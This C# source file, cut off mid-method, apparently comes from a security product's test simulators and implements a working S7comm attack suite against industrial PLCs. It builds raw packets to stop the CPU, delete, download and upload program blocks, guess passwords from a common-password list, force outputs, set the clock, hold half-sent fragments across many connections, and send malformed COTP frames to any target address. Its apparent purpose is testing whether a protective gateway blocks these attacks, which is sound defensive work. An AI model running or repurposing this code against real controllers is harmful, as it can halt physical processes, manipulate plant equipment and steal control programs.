using System.Buffers;
using System.Buffers.Binary;
using System.Diagnostics;
using System.Globalization;
using System.Net;
using System.Net.Sockets;
using System.Text;
using EdgeShield.Protocols.S7comm;

namespace EdgeShield.Simulators;

/// <summary>Bounds of an <see cref="S7AttackSuite"/> run.</summary>
public sealed class S7AttackOptions
{
    /// <summary>How long to wait for an answer before calling it <see cref="ProbeOutcome.NoAnswer"/>.</summary>
    public int AnswerTimeoutMs { get; init; } = 1000;
    public int ConnectTimeoutMs { get; init; } = 2000;
    /// <summary>The called TSAP's connection type of the attacker's connections: 1 (PG, an engineering station) by default.</summary>
    public byte ConnectionType { get; init; } = 1;
    public byte Rack { get; init; }
    public byte Slot { get; init; } = 2;
    /// <summary>Passwords tried by the password-guess case.</summary>
    public int PasswordGuesses { get; init; } = 32;
    /// <summary>Connections of the never-completed-many case, each holding a PDU's first fragment for <see cref="HoldMs"/>.</summary>
    public int PartialConnections { get; init; } = 32;
    public int HoldMs { get; init; } = 1000;
    /// <summary>Wall-clock bound of any one case.</summary>
    public TimeSpan CaseTimeLimit { get; init; } = TimeSpan.FromSeconds(15);
}

/// <summary>
/// Named attacks against an S7comm target (ISO-on-TCP), grouped into scenarios: CPU stop and PI services,
/// block download and upload, password guessing, forced outputs, PDUs above the negotiated size, COTP
/// fragmentation, and bad COTP. Results use <see cref="AttackCaseResult"/>: <see cref="ProbeOutcome.Exception"/>
/// carries the Ack_Data error class (87 access, 84, 85, D2…), the first failing item return code (03, 05, 0A…)
/// or the high byte of a userdata error code (D0 for D0A1…), and <see cref="AttackCaseResult.Detail"/> says which.
/// </summary>
public static class S7AttackSuite
{
    private static readonly (string Name, string[] Cases)[] ScenarioTable =
    [
        ("stop", ["plc-stop", "pi-hot-start", "pi-cold-start", "pi-delete-block", "pi-copy-ram-to-rom", "pi-compress"]),
        ("download", ["request-download", "download-block", "download-ended", "pi-insert-block"]),
        ("upload", ["start-upload", "upload", "end-upload", "list-and-upload-all"]),
        ("password", ["password-guess", "clear-password"]),
        ("forced-outputs", ["write-q-byte", "write-q-bit", "write-q-word-and-allowed-db", "write-peripheral", "force-userdata", "set-clock"]),
        ("oversize-pdu", ["oversize-single-dt", "oversize-fragments", "answer-beyond-pdu"]),
        ("fragments", ["fragmented-read", "fragmented-stop", "never-completed", "never-completed-many"]),
        ("bad-cotp", ["data-before-connect", "unknown-tpdu", "dt-li-3", "tpkt-length-5", "li-beyond-tpkt", "cr-class-4", "cr-tpdu-size-14", "cr-twice", "tpkt-version-2", "http-get"]),
    ];

    private static readonly string[] Names = ScenarioTable.SelectMany(static s => s.Cases).ToArray();
    private static readonly string[] Scenarios = ScenarioTable.Select(static s => s.Name).ToArray();

    public static IReadOnlyList<string> CaseNames => Names;

    public static IReadOnlyList<string> ScenarioNames => Scenarios;

    /// <exception cref="ArgumentException">When <paramref name="scenario"/> is not one of <see cref="ScenarioNames"/>.</exception>
    public static IReadOnlyList<string> CasesOf(string scenario)
    {
        foreach (var (name, cases) in ScenarioTable)
        {
            if (name == scenario)
            {
                return cases;
            }
        }
        throw new ArgumentException($"no S7 attack scenario '{scenario}'", nameof(scenario));
    }

    public static async Task<AttackScenarioResult> RunScenarioAsync(IPEndPoint target, string scenario, S7AttackOptions options, CancellationToken ct)
    {
        var cases = CasesOf(scenario);
        var watch = Stopwatch.StartNew();
        var results = new List<AttackCaseResult>(cases.Count);
        foreach (string name in cases)
        {
            results.Add(await RunCaseAsync(target, name, options, ct));
        }
        return new AttackScenarioResult(scenario, results, watch.Elapsed);
    }

    /// <exception cref="ArgumentException">When <paramref name="name"/> is not one of <see cref="CaseNames"/>.</exception>
    public static async Task<AttackCaseResult> RunCaseAsync(IPEndPoint target, string name, S7AttackOptions options, CancellationToken ct)
    {
        ArgumentNullException.ThrowIfNull(target);
        ArgumentNullException.ThrowIfNull(options);
        using var bound = CancellationTokenSource.CreateLinkedTokenSource(ct);
        bound.CancelAfter(options.CaseTimeLimit + TimeSpan.FromMilliseconds(name == "never-completed-many" ? options.HoldMs : 0));
        var bt = bound.Token;
        return name switch
        {
            // ---- CPU stop and PI services ----
            "plc-stop" => await OneAsync(target, name, [Dt(PlcStop())], options, bt),
            "pi-hot-start" => await OneAsync(target, name, [Dt(Pi(2, [], "P_PROGRAM"))], options, bt),
            "pi-cold-start" => await OneAsync(target, name, [Dt(Pi(3, "C"u8.ToArray(), "P_PROGRAM"))], options, bt),
            "pi-delete-block" => await OneAsync(target, name, [Dt(Pi(4, BlockList(S7Blocks.TypeDb, 1), "_DELE"))], options, bt),
            "pi-copy-ram-to-rom" => await OneAsync(target, name, [Dt(Pi(5, "EP"u8.ToArray(), "_MODU"))], options, bt),
            "pi-compress" => await OneAsync(target, name, [Dt(Pi(6, [], "_GARB"))], options, bt),
            // ---- download: the Stuxnet path ----
            "request-download" => await OneAsync(target, name, [Dt(RequestDownload(S7Blocks.TypeOb, 1, 96, 4))], options, bt),
            "download-block" => await OneAsync(target, name, [Dt(BlockJob(S7Functions.DownloadBlock, S7Blocks.TypeOb, 1))], options, bt),
            "download-ended" => await OneAsync(target, name, [Dt(BlockJob(S7Functions.DownloadEnded, S7Blocks.TypeOb, 1))], options, bt),
            "pi-insert-block" => await OneAsync(target, name, [Dt(Pi(7, BlockList(S7Blocks.TypeOb, 1), "_INSE"))], options, bt),
            // ---- upload: know-how theft ----
            "start-upload" => await OneAsync(target, name, [Dt(StartUpload(S7Blocks.TypeOb, 1))], options, bt),
            "upload" => await OneAsync(target, name, [Dt(UploadJob(S7Functions.Upload))], options, bt),
            "end-upload" => await OneAsync(target, name, [Dt(UploadJob(S7Functions.EndUpload))], options, bt),
            "list-and-upload-all" => await SequenceAsync(target, name, UploadAll(), options, bt),
            // ---- password guessing ----
            "password-guess" => await SequenceAsync(target, name, PasswordGuesses(options.PasswordGuesses), options, bt),
            "clear-password" => await OneAsync(target, name, [Dt(Userdata(8, 5, 2, []))], options, bt),
            // ---- forced outputs and other writes a process depends on ----
            "write-q-byte" => await OneAsync(target, name, [Dt(Write(10, (0x02, 1, 0, 0x82, 0, 0, [0xFF])))], options, bt),
            "write-q-bit" => await OneAsync(target, name, [Dt(Write(11, (0x01, 1, 0, 0x82, 0, 1, [0x01])))], options, bt),
            "write-q-word-and-allowed-db" => await OneAsync(target, name, [Dt(Write(12, (0x02, 1, 1, 0x84, 64, 0, [0x2A]), (0x04, 1, 0, 0x82, 2, 0, [0xFF, 0xFF])))], options, bt),
            "write-peripheral" => await OneAsync(target, name, [Dt(Write(13, (0x02, 2, 0, 0x80, 256, 0, [0x12, 0x34])))], options, bt),
            // Programmer commands (userdata group 1), subfunction 0x0C "force": the watch-and-force path.
            "force-userdata" => await OneAsync(target, name, [Dt(Userdata(14, 1, 0x0C, [0x00, 0x14, 0x00, 0x04, 0x00, 0x00, 0x00, 0x00]))], options, bt),
            "set-clock" => await OneAsync(target, name, [Dt(Userdata(15, 7, 2, [0x00, 0x19, 0x99, 0x12, 0x31, 0x23, 0x59, 0x59, 0x00, 0x05]))], options, bt),
            // ---- PDUs above the negotiated size (240 here) ----
            "oversize-single-dt" => await OneAsync(target, name, [Dt(ManyItemRead(16, 40))], options, bt, pduSize: 240),
            "oversize-fragments" => await OneAsync(target, name, Fragments(ManyItemRead(17, 40), 3, complete: true), options, bt, pduSize: 240),
            // A job that fits but whose answer would not: 20 items of 16 bytes (a CPU answers 85 00).
            "answer-beyond-pdu" => await OneAsync(target, name, [Dt(ManyItemRead(18, 18, bytesEach: 16))], options, bt, pduSize: 240),
            // ---- COTP fragmentation ----
            "fragmented-read" => await OneAsync(target, name, Fragments(Read(19, 0x02, 20, 1, 0x84, 0), 3, complete: true), options, bt),
            "fragmented-stop" => await OneAsync(target, name, Fragments(PlcStop(), 4, complete: true), options, bt),
            "never-completed" => await OneAsync(target, name, Fragments(PlcStop(), 2, complete: false), options, bt),
            "never-completed-many" => await ManyPartialAsync(target, name, options, bt),
            // ---- bad COTP ----
            "data-before-connect" => await OneAsync(target, name, [Dt(Setup(480))], options, bt, connect: false),
            "unknown-tpdu" => await OneAsync(target, name, [[0x03, 0x00, 0x00, 0x07, 0x02, 0x60, 0x80]], options, bt),
            "dt-li-3" => await OneAsync(target, name, [[0x03, 0x00, 0x00, 0x0A, 0x03, 0xF0, 0x80, 0x00, 0x32, 0x01]], options, bt),
            "tpkt-length-5" => await OneAsync(target, name, [[0x03, 0x00, 0x00, 0x05, 0x02, 0xF0, 0x80]], options, bt),
            "li-beyond-tpkt" => await OneAsync(target, name, [[0x03, 0x00, 0x00, 0x09, 0x10, 0xF0, 0x80, 0x32, 0x01]], options, bt),
            "cr-class-4" => await OneAsync(target, name, [Cr(options, 0x0A, classOptions: 0x40)], options, bt, connect: false),
            "cr-tpdu-size-14" => await OneAsync(target, name, [Cr(options, 0x0E)], options, bt, connect: false),
            "cr-twice" => await OneAsync(target, name, [Cr(options, 0x0A)], options, bt),
            "tpkt-version-2" => await OneAsync(target, name, [[0x02, 0x00, 0x00, 0x16, 0x11, 0xE0, 0x00, 0x00, 0x00, 0x01, 0x00, 0xC0, 0x01, 0x0A, 0xC1, 0x02, 0x01, 0x00, 0xC2, 0x02, 0x01, 0x02]], options, bt, connect: false),
            "http-get" => await OneAsync(target, name, [Encoding.ASCII.GetBytes("GET / HTTP/1.1\r\nHost: plc\r\n\r\n")], options, bt, connect: false),
            _ => throw new ArgumentException($"no S7 attack case '{name}'", nameof(name)),
        };
    }

    // ------------------------------------------------------------------ PDUs

    /// <summary>plc-stop: | 29 | 00 00 00 00 00 | 09 | P_PROGRAM |.</summary>
    internal static byte[] PlcStop() => Job(1, [S7Functions.PlcStop, 0, 0, 0, 0, 0, 9, .. "P_PROGRAM"u8], []);

    /// <summary>An S7 job or userdata PDU: | 32 | ROSCTR | 0000 | REF | PL | DL | parameters | data |.</summary>
    private static byte[] Pdu(byte rosctr, ushort reference, ReadOnlySpan<byte> parameters, ReadOnlySpan<byte> data)
    {
        var pdu = new byte[S7Limits.HeaderLength + parameters.Length + data.Length];
        pdu[0] = S7Limits.ProtocolId;
        pdu[1] = rosctr;
        BinaryPrimitives.WriteUInt16BigEndian(pdu.AsSpan(4), reference);
        BinaryPrimitives.WriteUInt16BigEndian(pdu.AsSpan(6), (ushort)parameters.Length);
        BinaryPrimitives.WriteUInt16BigEndian(pdu.AsSpan(8), (ushort)data.Length);
        parameters.CopyTo(pdu.AsSpan(S7Limits.HeaderLength));
        data.CopyTo(pdu.AsSpan(S7Limits.HeaderLength + parameters.Length));
        return pdu;
    }

    private static byte[] Job(ushort reference, ReadOnlySpan<byte> parameters, ReadOnlySpan<byte> data) => Pdu(1, reference, parameters, data);

    /// <summary>Setup communication: AmQ 1/1 and <paramref name="pduSize"/>.</summary>
    internal static byte[] Setup(ushort pduSize) => Job(0xFFF0, [S7Functions.SetupCommunication, 0, 0, 1, 0, 1, (byte)(pduSize >> 8), (byte)pduSize], []);

    /// <summary>PI service (plc-control): | 28 | 00 00 00 00 00 00 FD | block length (2) | block | name length | name |.</summary>
    private static byte[] Pi(ushort reference, ReadOnlySpan<byte> block, string service)
    {
        var p = new List<byte> { S7Functions.PlcControl, 0, 0, 0, 0, 0, 0, 0xFD, (byte)(block.Length >> 8), (byte)block.Length };
        p.AddRange(block.ToArray());
        p.Add((byte)service.Length);
        p.AddRange(Encoding.ASCII.GetBytes(service));
        return Job(reference, [.. p], []);
    }

    /// <summary>A PI block list of one block: | 01 | 00 | '0' type five digits | 'P' |.</summary>
    private static byte[] BlockList(byte type, int number)
    {
        var b = new byte[10];
        b[0] = 1;
        b[2] = (byte)'0';
        b[3] = type;
        S7Blocks.WriteDigits(b.AsSpan(4, 5), number);
        b[9] = (byte)'P';
        return b;
    }

    /// <summary>request-download: | 1A | 00 01 00 00 00 00 | 00 | 09 | _0TNNNNNP | 0D | '1' | load (6) | MC7 (6) |.</summary>
    private static byte[] RequestDownload(byte type, int number, int loadLength, int mc7Length)
    {
        var p = new byte[32];
        p[0] = S7Functions.RequestDownload;
        p[2] = 0x01;
        p[8] = 9;
        S7Blocks.WriteFileName(p.AsSpan(9), type, number, (byte)'P');
        p[18] = 13;
        p[19] = (byte)'1';
        S7Blocks.WriteDigits(p.AsSpan(20, 6), loadLength);
        S7Blocks.WriteDigits(p.AsSpan(26, 6), mc7Length);
        return Job(0x0A01, p, []);
    }

    /// <summary>download-block or download-ended as a client would never send them: | 1B/1C | 00 01 00 | 00000000 | 09 | _0TNNNNNP |.</summary>
    private static byte[] BlockJob(byte function, byte type, int number)
    {
        var p = new byte[18];
        p[0] = function;
        p[2] = 0x01;
        p[8] = 9;
        S7Blocks.WriteFileName(p.AsSpan(9), type, number, (byte)'P');
        return Job(0x0A02, p, []);
    }

    /// <summary>start-upload: | 1D | 00 00 00 00 00 00 | 00 | 09 | _0TNNNNNA |.</summary>
    private static byte[] StartUpload(byte type, int number, ushort reference = 0x0B01)
    {
        var p = new byte[18];
        p[0] = S7Functions.StartUpload;
        p[8] = 9;
        S7Blocks.WriteFileName(p.AsSpan(9), type, number, (byte)'A');
        return Job(reference, p, []);
    }

    /// <summary>upload or end-upload with upload id 7.</summary>
    private static byte[] UploadJob(byte function, ushort reference = 0x0B02) => Job(reference, [function, 0, 0, 0, 0, 0, 0, 7], []);

    /// <summary>List the blocks, then try to upload OB1, FC1, FB1 and DB1..DB4 (start, upload, end).</summary>
    private static List<byte[]> UploadAll()
    {
        var pdus = new List<byte[]> { Userdata(0x0B10, 3, 1, []) };
        ushort reference = 0x0B20;
        foreach (var (type, number) in (ReadOnlySpan<(byte, int)>)[(S7Blocks.TypeOb, 1), (S7Blocks.TypeFc, 1), (S7Blocks.TypeFb, 1), (S7Blocks.TypeDb, 1), (S7Blocks.TypeDb, 2), (S7Blocks.TypeDb, 3), (S7Blocks.TypeDb, 4)])
        {
            pdus.Add(StartUpload(type, number, reference++));
            pdus.Add(UploadJob(S7Functions.Upload, reference++));
            pdus.Add(UploadJob(S7Functions.EndUpload, reference++));
        }
        return pdus;
    }

    /// <summary>Userdata request: | 00 01 12 04 11 | 4G | subfunction | 00 |, data | FF 09 length | payload | (0A 00 0000 when empty).</summary>
    private static byte[] Userdata(ushort reference, byte group, byte subfunction, ReadOnlySpan<byte> payload)
    {
        byte[] parameters = [0x00, 0x01, 0x12, 0x04, 0x11, (byte)(0x40 | group), subfunction, 0x00];
        byte[] data = payload.IsEmpty ? [0x0A, 0x00, 0x00, 0x00] : [0xFF, 0x09, (byte)(payload.Length >> 8), (byte)payload.Length, .. payload];
        return Pdu(7, reference, parameters, data);
    }

    /// <summary>Set-password requests with common guesses, then numbered ones.</summary>
    private static List<byte[]> PasswordGuesses(int count)
    {
        string[] common = ["", "1234", "12345678", "password", "siemens", "admin", "plc", "s7", "0000", "abc"];
        var pdus = new List<byte[]>(count);
        Span<byte> encoded = stackalloc byte[8];
        for (int i = 0; i < count; i++)
        {
            string guess = i < common.Length ? common[i] : "pw" + i.ToString(CultureInfo.InvariantCulture);
            S7PlcSimulator.EncodePassword(guess, encoded);
            pdus.Add(Userdata((ushort)(0x0C00 + i), 5, 1, encoded));
        }
        return pdus;
    }

    /// <summary>write-var of items (transport size, count, DB, area, byte, bit, data); data transport size 03 for bits, 04 (bits) otherwise.</summary>
    internal static byte[] Write(ushort reference, params (byte Ts, ushort Count, ushort Db, byte Area, int Byte, int Bit, byte[] Data)[] items)
    {
        var p = new List<byte> { S7Functions.WriteVar, (byte)items.Length };
        var d = new List<byte>();
        for (int i = 0; i < items.Length; i++)
        {
            var it = items[i];
            p.AddRange(Item(it.Ts, it.Count, it.Db, it.Area, it.Byte, it.Bit));
            bool bit = it.Ts == S7Items.TransportSizeBit;
            int length = bit ? 1 : it.Data.Length * 8;
            d.AddRange([0x00, bit ? (byte)0x03 : (byte)0x04, (byte)(length >> 8), (byte)length]);
            d.AddRange(it.Data);
            if ((it.Data.Length & 1) != 0 && i < items.Length - 1)
            {
                d.Add(0);
            }
        }
        return Job(reference, [.. p], [.. d]);
    }

    private static byte[] Item(byte ts, ushort count, ushort db, byte area, int byteOffset, int bit)
    {
        int address = (byteOffset * 8) + bit;
        return [0x12, 0x0A, 0x10, ts, (byte)(count >> 8), (byte)count, (byte)(db >> 8), (byte)db, area, (byte)(address >> 16), (byte)(address >> 8), (byte)address];
    }

    internal static byte[] Read(ushort reference, byte ts, ushort count, ushort db, byte area, int byteOffset) =>
        Job(reference, [S7Functions.ReadVar, 1, .. Item(ts, count, db, area, byteOffset, 0)], []);

    /// <summary>A read-var of <paramref name="items"/> items of DB1 (byte items, <paramref name="bytesEach"/> bytes each).</summary>
    private static byte[] ManyItemRead(ushort reference, int items, int bytesEach = 1)
    {
        var p = new List<byte> { S7Functions.ReadVar, (byte)items };
        for (int i = 0; i < items; i++)
        {
            p.AddRange(Item(0x02, (ushort)bytesEach, 1, 0x84, i * bytesEach, 0));
        }
        return Job(reference, [.. p], []);
    }

    /// <summary>TPKT + COTP DT around a payload.</summary>
    internal static byte[] Dt(ReadOnlySpan<byte> payload, bool eot = true)
    {
        var packet = new byte[S7Limits.DataTpduOverhead + payload.Length];
        CotpWriter.WriteDataHeader(packet, payload.Length, eot);
        payload.CopyTo(packet.AsSpan(S7Limits.DataTpduOverhead));
        return packet;
    }

    /// <summary>The PDU in <paramref name="parts"/> DTs; the last without EOT (and cut short) when not <paramref name="complete"/>.</summary>
    private static byte[][] Fragments(byte[] pdu, int parts, bool complete)
    {
        int length = complete ? pdu.Length : pdu.Length - 1;
        var packets = new byte[parts][];
        int at = 0;
        for (int i = 0; i < parts; i++)
        {
            int take = i == parts - 1 ? length - at : length / parts;
            packets[i] = Dt(pdu.AsSpan(at, take), eot: complete && i == parts - 1);
            at += take;
        }
        return packets;
    }

    /// <summary>COTP CR: calling TSAP 0100, called TSAP (connection type, rack × 32 + slot).</summary>
    internal static byte[] Cr(S7AttackOptions options, byte sizeCode, byte classOptions = 0) =>
        [0x03, 0x00, 0x00, 0x16, 0x11, 0xE0, 0x00, 0x00, 0x00, 0x01, classOptions, 0xC0, 0x01, sizeCode, 0xC1, 0x02, 0x01, 0x00,
            0xC2, 0x02, options.ConnectionType, (byte)((options.Rack * 32) + options.Slot)];

    // ------------------------------------------------------------------ running

    /// <summary>An attacker's ISO-on-TCP connection: raw packets out, one TPKT packet or a whole PDU in.</summary>
    internal sealed class Connection : IDisposable
    {
        private readonly byte[] _rx = new byte[64 * 1024];
        private readonly CotpReassembler _reassembler = new(new byte[8192], 8192);
        private int _buffered;

        private Connection(Socket socket) => Socket = socket;

        public Socket Socket { get; }

        public bool Closed { get; private set; }

        public static async Task<Connection?> OpenAsync(IPEndPoint target, S7AttackOptions options, CancellationToken ct)
        {
            var socket = new Socket(target.AddressFamily, SocketType.Stream, ProtocolType.Tcp) { NoDelay = true };
            using var timeout = CancellationTokenSource.CreateLinkedTokenSource(ct);
            timeout.CancelAfter(options.ConnectTimeoutMs);
            try
            {
                await socket.ConnectAsync(target, timeout.Token);
                return new Connection(socket);
            }
            catch (Exception e) when (e is SocketException or OperationCanceledException)
            {
                socket.Dispose();
                ct.ThrowIfCancellationRequested();
                return null;
            }
        }

        public async Task<bool> SendAsync(ReadOnlyMemory<byte> bytes, CancellationToken ct)
        {
            try
            {
                while (!bytes.IsEmpty)
                {
                    int sent = await Socket.SendAsync(bytes, SocketFlags.None, ct);
                    bytes = bytes[sent..];
                }
                return true;
            }
            catch (SocketException)
            {
                Closed = true;
                return false;
            }
        }

        /// <summary>Waits for one answer: a CC, DR or ER, or a whole S7 PDU, and says what it was.</summary>
        public async Task<(ProbeOutcome Outcome, byte Code, string Detail)> ReadAnswerAsync(int timeoutMs, CancellationToken ct)
        {
            using var timeout = CancellationTokenSource.CreateLinkedTokenSource(ct);
            timeout.CancelAfter(timeoutMs);
            while (true)
            {
                var answer = TryTake();
                if (answer is { } a)
                {
                    return a;
                }
                int n;
                try
                {
                    n = await Socket.ReceiveAsync(_rx.AsMemory(_buffered), SocketFlags.None, timeout.Token);
                }
                catch (OperationCanceledException) when (!ct.IsCancellationRequested)
                {
                    return (ProbeOutcome.NoAnswer, 0, "");
                }
                catch (SocketException)
                {
                    n = 0;
                }
                if (n == 0)
                {
                    Closed = true;
                    return (ProbeOutcome.ConnectionClosed, 0, "");
                }
                _buffered += n;
            }
        }

        private (ProbeOutcome, byte, string)? TryTake()
        {
            while (true)
            {
                var status = TpktFramer.TryReadFrame(_rx.AsSpan(0, _buffered), out var tpdu, out int used, out _);
                if (status == OperationStatus.NeedMoreData)
                {
                    return null;
                }
                if (status != OperationStatus.Done)
                {
                    _buffered = 0;
                    return (ProbeOutcome.Garbage, 0, "not TPKT/COTP");
                }
                (ProbeOutcome, byte, string)? result = null;
                switch (tpdu.Type)
                {
                    case CotpTpduType.ConnectionConfirm:
                        result = (ProbeOutcome.Normal, 0, "COTP CC");
                        break;
                    case CotpTpduType.DisconnectRequest:
                        result = (ProbeOutcome.ConnectionClosed, tpdu.Reason, string.Create(CultureInfo.InvariantCulture, $"COTP DR reason {tpdu.Reason:X2}"));
                        break;
                    case CotpTpduType.Error:
                        result = (ProbeOutcome.Exception, tpdu.Reason, "COTP ER");
                        break;
                    default:
                        if (_reassembler.Append(tpdu, out var pdu, out _) == OperationStatus.Done)
                        {
                            result = Judge(pdu);
                        }
                        break;
                }
                Buffer.BlockCopy(_rx, used, _rx, 0, _buffered - used);
                _buffered -= used;
                if (result is not null)
                {
                    return result;
                }
            }
        }

        public void Dispose() => Socket.Dispose();
    }

    /// <summary>What an S7 answer says: normal, or the refusal a PLC (or the gateway in its place) gave.</summary>
    private static (ProbeOutcome, byte, string) Judge(ReadOnlySpan<byte> pdu)
    {
        var header = S7Pdu.ParseHeader(pdu);
        if (!header.IsValid || header.Protocol != S7Protocol.S7comm)
        {
            return (ProbeOutcome.Garbage, 0, "not an S7 PDU");
        }
        if (header.Rosctr is S7Rosctr.Ack or S7Rosctr.AckData)
        {
            if (header.ErrorClass != 0 || header.ErrorCode != 0)
            {
                return (ProbeOutcome.Exception, header.ErrorClass, string.Create(CultureInfo.InvariantCulture, $"Ack_Data error {header.ErrorClass:X2}{header.ErrorCode:X2}"));
            }
            var p = header.Parameters;
            var d = header.Data;
            if (p.Length == 2 && p[0] is S7Functions.ReadVar or S7Functions.WriteVar)
            {
                // The first item that failed: read items | rc | ts | len (2) | data |, write items one rc each.
                bool read = p[0] == S7Functions.ReadVar;
                while (!d.IsEmpty)
                {
                    if (d[0] != S7Items.ReturnSuccess)
                    {
                        return (ProbeOutcome.Exception, d[0], string.Create(CultureInfo.InvariantCulture, $"item return code {d[0]:X2}"));
                    }
                    if (!read)
                    {
                        d = d[1..];
                        continue;
                    }
                    if (d.Length < 4)
                    {
                        break;
                    }
                    int length = S7Items.DataByteLength(d[1], BinaryPrimitives.ReadUInt16BigEndian(d[2..]));
                    d = d[Math.Min(d.Length, 4 + length + (length & 1))..];
                }
            }
            return (ProbeOutcome.Normal, 0, p.IsEmpty ? "Ack_Data" : string.Create(CultureInfo.InvariantCulture, $"Ack_Data {p[0]:X2}"));
        }
        if (header.Rosctr == S7Rosctr.Userdata)
        {
            var p = header.Parameters;
            ushort error = p.Length >= 12 ? BinaryPrimitives.ReadUInt16BigEndian(p[10..]) : (ushort)0;
            return error != 0
                ? (ProbeOutcome.Exception, (byte)(error >> 8), string.Create(CultureInfo.InvariantCulture, $"userdata error {error:X4}"))
                : (ProbeOutcome.Normal, (byte)0, "userdata response");
        }
        // A job from the target: a CPU's download-block request after a request-download it accepted.
        byte function = header.Parameters.IsEmpty ? (byte)0 : header.Parameters[0];
        return (ProbeOutcome.Normal, (byte)0, string.Create(CultureInfo.InvariantCulture, $"job {function:X2} from the target"));
    }

    /// <summary>Opens a connection, COTP connect (unless not asked) and setup-communication; null with a result when that failed.</summary>
    internal static async Task<(Connection? Connection, AttackCaseResult? Failed)> PrepareAsync(IPEndPoint target, string name, S7AttackOptions options, bool connect, ushort pduSize, CancellationToken ct)
    {
        var c = await Connection.OpenAsync(target, options, ct);
        if (c is null)
        {
            return (null, new AttackCaseResult(name, ProbeOutcome.ConnectFailed, 0) { ConnectFailed = 1, Sent = 0 });
        }
        if (!connect)
        {
            return (c, null);
        }
        foreach (var packet in (byte[][])[Cr(options, 0x0A), Dt(Setup(pduSize))])
        {
            await c.SendAsync(packet, ct);
            var (outcome, code, detail) = await c.ReadAnswerAsync(options.AnswerTimeoutMs, ct);
            if (outcome != ProbeOutcome.Normal)
            {
                c.Dispose();
                return (null, new AttackCaseResult(name, outcome, code) { Detail = "refused before the attack: " + detail, Sent = 0, Closed = outcome == ProbeOutcome.ConnectionClosed ? 1 : 0, Exceptions = outcome == ProbeOutcome.Exception ? 1 : 0, NoAnswer = outcome == ProbeOutcome.NoAnswer ? 1 : 0 });
            }
        }
        return (c, null);
    }

    /// <summary>Sends <paramref name="packets"/> (one attack, possibly in several TPKT packets) and reads one answer.</summary>
    private static async Task<AttackCaseResult> OneAsync(IPEndPoint target, string name, byte[][] packets, S7AttackOptions options, CancellationToken ct, bool connect = true, ushort pduSize = 480)
    {
        try
        {
            var (c, failed) = await PrepareAsync(target, name, options, connect, pduSize, ct);
            if (c is null)
            {
                return failed!;
            }
            using (c)
            {
                foreach (var packet in packets)
                {
                    if (!await c.SendAsync(packet, ct))
                    {
                        break;
                    }
                }
                var (outcome, code, detail) = await c.ReadAnswerAsync(options.AnswerTimeoutMs, ct);
                return Single(name, outcome, code, detail, packets.Length);
            }
        }
        catch (OperationCanceledException) when (!ct.IsCancellationRequested)
        {
            return new AttackCaseResult(name, ProbeOutcome.NoAnswer, 0) { Sent = packets.Length, NoAnswer = 1, Truncated = true };
        }
    }

    private static AttackCaseResult Single(string name, ProbeOutcome outcome, byte code, string detail, int sent) => new(name, outcome, code)
    {
        Sent = sent,
        Detail = detail.Length == 0 ? null : detail,
        Normal = outcome == ProbeOutcome.Normal ? 1 : 0,
        Exceptions = outcome == ProbeOutcome.Exception ? 1 : 0,
        Closed = outcome == ProbeOutcome.ConnectionClosed ? 1 : 0,
        NoAnswer = outcome is ProbeOutcome.NoAnswer or ProbeOutcome.Garbage ? 1 : 0,
    };

    /// <summary>Sends each PDU as one DT and reads its answer; reconnects after a close.</summary>
    private static async Task<AttackCaseResult> SequenceAsync(IPEndPoint target, string name, List<byte[]> pdus, S7AttackOptions options, CancellationToken ct)
    {
        int normal = 0, exceptions = 0, closed = 0, noAnswer = 0, connectFailed = 0, connections = 0, sent = 0;
        var codes = new int[256];
        bool truncated = false;
        Connection? c = null;
        try
        {
            foreach (var pdu in pdus)
            {
                if (c is null)
                {
                    connections++;
                    (c, var failed) = await PrepareAsync(target, name, options, connect: true, 480, ct);
                    if (c is null)
                    {
                        connectFailed += failed!.Outcome == ProbeOutcome.ConnectFailed ? 1 : 0;
                        closed += failed.Outcome == ProbeOutcome.ConnectionClosed ? 1 : 0;
                        break;
                    }
                }
                sent++;
                await c.SendAsync(Dt(pdu), ct);
                var (outcome, code, _) = await c.ReadAnswerAsync(options.AnswerTimeoutMs, ct);
                switch (outcome)
                {
                    case ProbeOutcome.Normal:
                        normal++;
                        break;
                    case ProbeOutcome.Exception:
                        exceptions++;
                        codes[code]++;
                        break;
                    case ProbeOutcome.ConnectionClosed:
                        closed++;
                        c.Dispose();
                        c = null;
                        break;
                    default:
                        noAnswer++;
                        break;
                }
            }
        }
        catch (OperationCanceledException) when (!ct.IsCancellationRequested)
        {
            truncated = true;
        }
        finally
        {
            c?.Dispose();
        }
        int top = 0;
        for (int i = 1; i < 256; i++)
        {
            top = codes[i] > codes[top] ? i : top;
        }
        var most = Max((ProbeOutcome.Normal, normal), (ProbeOutcome.Exception, exceptions), (ProbeOutcome.ConnectionClosed, closed), (ProbeOutcome.NoAnswer, noAnswer), (ProbeOutcome.ConnectFailed, connectFailed));
        return new AttackCaseResult(name, most, (byte)top)
        {
            Sent = sent,
            Connections = Math.Max(connections, 1),
            Normal = normal,
            Exceptions = exceptions,
            Closed = closed,
            NoAnswer = noAnswer,
            ConnectFailed = connectFailed,
            Truncated = truncated,
        };
    }

    private static ProbeOutcome Max(params (ProbeOutcome Outcome, int Count)[] counts)
    {
        var best = counts[0];
        foreach (var c in counts)
        {
            if (c.Count > best.Count)
            {
                best = c;
            }
        }
        return best.Outcome;
    }

    /// <summary>Many connections, each sending the first fragment of a plc-stop and holding it; none may be answered.</summary>
    private static async Task<AttackCaseResult> ManyPartialAsync(IPEndPoint target, string name, S7AttackOptions options, CancellationToken ct)
    {
        var open = new List<Connection>();
        int connectFailed = 0, refused = 0;
        try
        {
            var first = Fragments(PlcStop(), 2, complete: false)[0];
            for (int i = 0; i < options.PartialConnections; i++)
            {
                var (c, failed) = await PrepareAsync(target, name, options, connect: true, 480, ct);
                if (c is null)
                {
                    connectFailed += failed!.Outcome == ProbeOutcome.ConnectFailed ? 1 : 0;
                    refused += failed.Outcome == ProbeOutcome.ConnectFailed ? 0 : 1;
                    continue;
                }
                open.Add(c);
                await c.SendAsync(first, ct);
            }
            await Task.Delay(options.HoldMs, ct);
            int normal = 0, exceptions = 0, closed = 0, noAnswer = 0;
            foreach (var c in open)
            {
                var (outcome, _, _) = await c.ReadAnswerAsync(50, ct);
                switch (outcome)
                {
                    case ProbeOutcome.Normal: normal++; break;
                    case ProbeOutcome.Exception: exceptions++; break;
                    case ProbeOutcome.ConnectionClosed: closed++; break;
                    default: noAnswer++; break;
                }
            }
            var most = Max((ProbeOutcome.NoAnswer, noAnswer), (ProbeOutcome.Normal, normal), (ProbeOutcome.Exception, exceptions), (ProbeOutcome.ConnectionClosed, closed + refused), (ProbeOutcome.ConnectFailed, connectFailed));
            return new AttackCaseResult(name, most, 0)
            {
